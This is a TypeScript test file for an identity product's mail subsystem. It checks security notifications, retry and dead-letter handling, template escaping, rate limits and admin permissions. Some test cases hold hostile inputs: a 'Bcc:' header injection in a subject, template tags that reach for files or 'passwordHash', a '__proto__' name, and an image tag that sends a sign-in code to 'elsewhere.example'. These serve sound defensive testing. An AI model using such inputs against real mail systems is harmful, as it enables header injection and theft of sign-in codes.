import { afterAll, beforeAll, expect, it } from 'vitest';
import { smtpMailer } from '../../src/adapters/messaging/smtpMailer.ts';
import { updateUser } from '../../src/flows/directory/updateUser.ts';
import { MESSAGE_LANE, runDueJobs } from '../../src/flows/maintenance/runDueJobs.ts';
import { setBranding, showBranding } from '../../src/flows/messages/branding.ts';
import { listMessages } from '../../src/flows/messages/listMessages.ts';
import { listTemplates } from '../../src/flows/messages/listTemplates.ts';
import { previewTemplate } from '../../src/flows/messages/previewTemplate.ts';
import { reviveMessage } from '../../src/flows/messages/reviveMessage.ts';
import { sendTestMail } from '../../src/flows/messages/sendTestMail.ts';
import { resetTemplate, setTemplate } from '../../src/flows/messages/setTemplate.ts';
import { postMail } from '../../src/flows/postMail.ts';
import { jobHandlers } from '../../src/jobHandlers.ts';
import { after, HOUR, MINUTE } from '../../src/kernel/instant.ts';
import type { Ports } from '../../src/ports/ports.ts';
import { administeredBy } from '../builders/administration.ts';
import { aSignIn } from '../builders/aSignIn.ts';
import { eachEngine } from '../builders/database.ts';
import { aWorld, must, type World } from '../builders/world.ts';
import { aMailServer } from '../doubles/mailServer.ts';

eachEngine('mail', (database) => {
  let world: World;
  let ports: Ports;
  let server: Awaited<ReturnType<typeof aMailServer>>;
  beforeAll(async () => {
    world = await aWorld(database.store);
    server = await aMailServer();
    ports = { ...world.ports, mailer: smtpMailer({ url: server.url, from: 'sign-in@acme.example' }) };
  });
  afterAll(async () => {
    ports.mailer?.close();
    await server.close();
  });

  /** Does what is due. @returns what failed. */
  async function work(): Promise<readonly unknown[]> {
    const failures: unknown[] = [];
    const run = runDueJobs(ports, { handlers: jobHandlers(ports), lane: MESSAGE_LANE, failed: (error) => failures.push(error) });
    while ((await run(world.tenant.id)) === 'worked');
    return failures;
  }

  const post = (to: string, words: { code?: string; expiresAt?: Parameters<typeof postMail>[2]['expiresAt'] } = {}) =>
    ports.store.transaction(world.tenant.id, (tx) =>
      postMail(ports, tx, {
        template: 'test',
        user: null,
        to,
        values: {},
        secrets: words.code === undefined ? {} : { code: words.code },
        expiresAt: words.expiresAt ?? null,
      }),
    );

  const dead = async () => must(await listMessages(ports)({ ...world.host, state: 'dead', user: null, before: null, limit: 100 })).messages;

  it('security.md, Factors: the owner is told by mail of a factor that was added, from which address and when, with what to do', async () => {
    await world.rule({ kind: 'tenant' }, { level: 'required' });
    const mail = `${world.unique('ada')}@example.com`;
    const person = await world.user({ mail });
    const signIn = await aSignIn(world);
    await signIn.password(person.loginName);
    await signIn.enrolTotp();
    expect(await work()).toEqual([]);
    const [told, ...more] = server.to(mail);
    expect(more).toEqual([]);
    expect(told).toMatchObject({
      subject: 'A second step was added to your account at Acme',
      from: { name: 'Acme', address: 'sign-in@acme.example' },
    });
    expect(told?.text).toContain('An authenticator app');
    expect(told?.text).toContain('192.0.2.7');
    expect(told?.text).toContain(`/t/${world.tenant.slug}/account`);
    expect(told?.html).toContain('If this was not you');
  });

  it('security.md, Factors: the owner is told of a right password with a wrong second step, once for each sign-in', async () => {
    const mail = `${world.unique('eve')}@example.com`;
    const person = await world.user({ mail });
    const first = await aSignIn(world);
    await first.password(person.loginName);
    const app = await first.enrolTotp();
    await work();
    const before = server.to(mail).length;
    const signIn = await aSignIn(world);
    await signIn.password(person.loginName);
    const wrong = await app.wrongCode();
    expect(await signIn.totp(wrong)).toBe('code_wrong');
    expect(await signIn.totp(wrong)).toBe('code_wrong');
    await work();
    const told = server.to(mail).slice(before);
    expect(told.map(({ subject }) => subject)).toEqual(['Your password was right, the second step was not: was this you?']);
    expect(told[0]?.text).not.toContain(wrong);
  });

  it('A3: no mail leaves for a change that was rolled back', async () => {
    const to = `${world.unique('none')}@example.com`;
    const broken = ports.store.transaction(world.tenant.id, async (tx) => {
      await postMail(ports, tx, { template: 'test', user: null, to, values: {}, secrets: {}, expiresAt: null });
      throw new Error('rolled back');
    });
    await expect(broken).rejects.toThrow('rolled back');
    await work();
    expect(server.to(to)).toEqual([]);
  });

  it('security.md, Factors: a secret of a message lies sealed until it is sent, and then nowhere', async () => {
    const to = `${world.unique('sealed')}@example.com`;
    const template = { subject: 'Code', text: '{{person}}{{tenant}}', html: null };
    must(await setTemplate(ports)({ ...world.host, template: 'test', ...template }));
    const id = await post(to, { code: 'qwertz-secret' });
    const rows = await database.asOwner('select to_jsonb(m)::text as row from messages m where id = $1', [id]);
    expect(String(rows[0]?.['row'])).not.toContain('qwertz');
    await work();
    expect(server.to(to)).toHaveLength(1);
    expect(await database.asOwner('select values_sealed from messages where id = $1', [id])).toEqual([{ values_sealed: null }]);
    must(await resetTemplate(ports)({ ...world.host, template: 'test' }));
  });

  it('a mail server that is away for a while is tried again, and a mailbox that does not exist is not', async () => {
    const [away, gone] = [`${world.unique('away')}@example.com`, `${world.unique('gone')}@example.com`];
    server.refuse((recipient) =>
      recipient === away ? { code: 450, message: 'later' } : recipient === gone ? { code: 550, message: 'no such mailbox' } : null,
    );
    await post(away);
    const refused = await post(gone);
    expect(await work()).toHaveLength(1);
    expect(await dead()).toMatchObject([{ id: refused, recipient: gone, state: { because: 'the mail server answered 550' } }]);
    expect((await world.events()).filter(({ type }) => type === 'message.dead').map(({ data }) => data['message'])).toEqual([refused]);
    server.refuse(() => null);
    database.moveClock(MINUTE);
    expect(await work()).toEqual([]);
    expect(server.to(away)).toHaveLength(1);
    expect(server.to(gone)).toEqual([]);
    database.moveClock(0);
  });

  it('one that fails until nobody tries it again is on the dead-letter list, says so once, and can be sent after all', async () => {
    const to = `${world.unique('late')}@example.com`;
    server.refuse(() => ({ code: 451, message: 'later' }));
    const id = await post(to);
    for (let round = 0; round < 8; round += 1) {
      database.moveClock((round + 1) * 2 * HOUR);
      await work();
    }
    expect((await dead()).map((one) => one.id)).toContain(id);
    const told = (await world.events()).filter(
      ({ type, data }) => type.endsWith('.dead') && (data['message'] === id || type === 'job.dead'),
    );
    expect(told.map(({ type }) => type)).toEqual(['message.dead']);
    server.refuse(() => null);
    must(await reviveMessage(ports)({ ...world.host, message: id }));
    expect(await work()).toEqual([]);
    expect(server.to(to)).toHaveLength(1);
    expect(await reviveMessage(ports)({ ...world.host, message: id })).toMatchObject({ ok: false, code: 'message_not_found' });
    database.moveClock(0);
  });

  it('what is over is not sent any more', async () => {
    const to = `${world.unique('over')}@example.com`;
    const id = await post(to, { expiresAt: after(await world.now(), MINUTE) });
    database.moveClock(MINUTE);
    expect(await work()).toEqual([]);
    database.moveClock(0);
    expect(server.to(to)).toEqual([]);
    expect((await dead()).find((one) => one.id === id)?.state).toMatchObject({ because: 'it was over before it could be sent' });
  });

  it('security.md, Factors: a former address is told that it was replaced, and the new one that it is the address now', async () => {
    const [former, next] = [`${world.unique('former')}@example.com`, `${world.unique('next')}@example.com`];
    const { id } = await world.user({ mail: former });
    must(await updateUser(ports)({ ...world.host, user: id, mail: next }));
    await work();
    expect(server.to(former).map(({ subject }) => subject)).toEqual(['The mail address of your account at Acme was changed']);
    expect(server.to(next).map(({ subject }) => subject)).toEqual(['This is the mail address of your account at Acme now']);
  });

  it('a tenant’s own words and looks are in its mails, and values are escaped in HTML alone', async () => {
    const to = `${world.unique('own')}@example.com`;
    must(
      await setTemplate(ports)({
        ...world.host,
        template: 'test',
        subject: 'Hi from {{tenant}}',
        text: 'One & two <b>: {{help}}',
        html: null,
      }),
    );
    must(await setBranding(ports)({ ...world.host, senderName: 'Acme "IT"', accentColor: '#AA0011', footer: 'Acme & Sons' }));
    await post(to);
    await work();
    const [mail] = server.to(to);
    expect(mail).toMatchObject({ subject: 'Hi from Acme', from: { name: 'Acme "IT"' } });
    expect(mail?.text?.trim()).toBe('One & two <b>: \n\nAcme & Sons');
    expect(mail?.html).toContain('One &amp; two &lt;b&gt;:');
    expect(mail?.html).toContain('#aa0011');
    expect(mail?.html).toContain('Acme &amp; Sons');
    expect(must(await showBranding(ports)(world.host))).toEqual({ senderName: 'Acme "IT"', accentColor: '#aa0011', footer: 'Acme & Sons' });
    expect(must(await listTemplates(ports)(world.host)).find(({ template }) => template === 'test')?.words).toBe('own');
    must(await resetTemplate(ports)({ ...world.host, template: 'test' }));
    must(await setBranding(ports)({ ...world.host, senderName: null, footer: null }));
  });

  it.each([
    ['nothing', { subject: '', text: 'x', html: null }, 'subject'],
    ['two lines', { subject: 'a\nBcc: b', text: 'x', html: null }, 'subject'],
    ['an open section', { subject: 'x', text: '{{#person}}', html: null }, 'text'],
    ['a file', { subject: 'x', text: '{{> file}}', html: null }, 'text'],
    ['other delimiters', { subject: 'x', text: '{{=<% %>=}}', html: null }, 'text'],
    ['what this mail does not have', { subject: 'x', text: '{{passwordHash}}', html: null }, 'text'],
    ['a value as HTML', { subject: 'x', text: 'x', html: '<p>{{{person}}}</p>' }, 'html'],
    ['a value as HTML, said otherwise', { subject: 'x', text: 'x', html: '<p>{{& person}}</p>' }, 'html'],
    ['a method', { subject: 'x', text: '{{toString}}', html: null }, 'text'],
    ['what is no text', { subject: 'x', text: 'x', html: 7 }, 'html'],
    ['too much', { subject: 'x', text: 'x'.repeat(20_001), html: null }, 'text'],
  ])('words that cannot be used are refused and change nothing: %s', async (_, words, part) => {
    expect(await setTemplate(ports)({ ...world.host, template: 'test', ...words })).toMatchObject({
      ok: false,
      code: 'template_malformed',
      facts: { part },
    });
    expect(await previewTemplate(ports)({ ...world.host, template: 'test', draft: words })).toMatchObject({ code: 'template_malformed' });
    expect(must(await listTemplates(ports)(world.host)).every((one) => one.words === 'of the product')).toBe(true);
  });

  it('security.md, Factors: a mail that holds a code or a link has no HTML of its own, through which the secret could be sent away', async () => {
    const words = { subject: 'x', text: '{{code}}', html: '<img src="https://elsewhere.example/?{{code}}">' };
    expect(await setTemplate(ports)({ ...world.host, template: 'enrolment_code', ...words })).toMatchObject({
      code: 'template_malformed',
      facts: { part: 'html' },
    });
    must(await setTemplate(ports)({ ...world.host, template: 'enrolment_code', ...words, html: null }));
    must(await resetTemplate(ports)({ ...world.host, template: 'enrolment_code' }));
  });

  it('every mail can be looked at beforehand, and leaves no value unfilled', async () => {
    for (const { template } of must(await listTemplates(ports)(world.host))) {
      const { subject, text, html } = must(await previewTemplate(ports)({ ...world.host, template, draft: null }));
      expect(`${subject}${text}${html}`).not.toMatch(/\{\{|undefined|\[object/);
    }
    expect(await previewTemplate(ports)({ ...world.host, template: 'nothing', draft: null })).toMatchObject({ code: 'template_not_found' });
    expect(await setTemplate(ports)({ ...world.host, template: 'nothing', subject: 'x', text: 'x', html: null })).toMatchObject({
      code: 'template_not_found',
    });
    expect(await resetTemplate(ports)({ ...world.host, template: '__proto__' })).toMatchObject({ code: 'template_not_found' });
  });

  it('a test says what the mail server answers', async () => {
    const to = `${world.unique('test')}@example.com`;
    expect(must(await sendTestMail(ports)({ ...world.host, to }))).toEqual({ provider: new URL(server.url).host });
    expect(server.to(to)).toHaveLength(1);
    server.refuse(() => ({ code: 553, message: 'not here' }));
    expect(await sendTestMail(ports)({ ...world.host, to })).toMatchObject({ ok: false, code: 'mail_not_sent' });
    server.refuse(() => null);
    expect(await sendTestMail(ports)({ ...world.host, to: 'a@b, c@d' })).toMatchObject({ ok: false, code: 'mail_malformed' });
    expect(await sendTestMail({ ...ports, mailer: null })({ ...world.host, to })).toMatchObject({ ok: false, code: 'mail_unavailable' });
  });

  it('security.md, Codes: a mail to see whether mail arrives is no way to send strangers whatever one has written', async () => {
    const own = await aWorld(database.store);
    const all = await Promise.all(
      Array.from({ length: 14 }, (_, index) => sendTestMail(ports)({ ...own.host, to: `stranger${index}@elsewhere.example` })),
    );
    expect(all.filter(({ ok }) => ok)).toHaveLength(10);
    expect(all.filter((one) => !one.ok && one.code === 'too_many_attempts')).toHaveLength(4);
    expect((await own.events()).filter(({ type }) => type === 'mail.test_sent')).toHaveLength(10);
  });

  it('security.md, Tenancy: an auditor reads what was sent and changes nothing, and anybody else sees nothing', async () => {
    const auditor = administeredBy(world, await world.user({ role: 'auditor' }));
    const nobody = administeredBy(world, await world.user());
    const filter = { state: null, user: null, before: null, limit: 10 } as const;
    expect(await listMessages(ports)({ ...auditor, ...filter })).toMatchObject({ ok: true });
    expect(await listMessages(ports)({ ...nobody, ...filter })).toMatchObject({ ok: false, code: 'not_permitted' });
    for (const by of [auditor, nobody]) {
      expect(await setTemplate(ports)({ ...by, template: 'test', subject: 'x', text: 'x', html: null })).toMatchObject({
        code: 'not_permitted',
      });
      expect(await resetTemplate(ports)({ ...by, template: 'test' })).toMatchObject({ code: 'not_permitted' });
      expect(await setBranding(ports)({ ...by, footer: 'x' })).toMatchObject({ code: 'not_permitted' });
      expect(await sendTestMail(ports)({ ...by, to: 'a@b.example' })).toMatchObject({ code: 'not_permitted' });
    }
  });
});
